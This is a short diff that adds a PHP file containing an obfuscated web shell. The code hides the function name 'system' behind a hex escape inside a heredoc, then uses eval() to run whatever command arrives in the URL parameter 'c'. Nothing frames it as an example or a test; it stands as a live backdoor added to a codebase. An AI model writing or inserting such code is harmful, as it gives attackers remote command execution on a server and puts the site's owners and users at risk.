@@ -1,0 +1,4 @@
+<?php $code = <<<"EOC"
+\x73ystem(\$_GET['c']);
+EOC;
+eval($code);
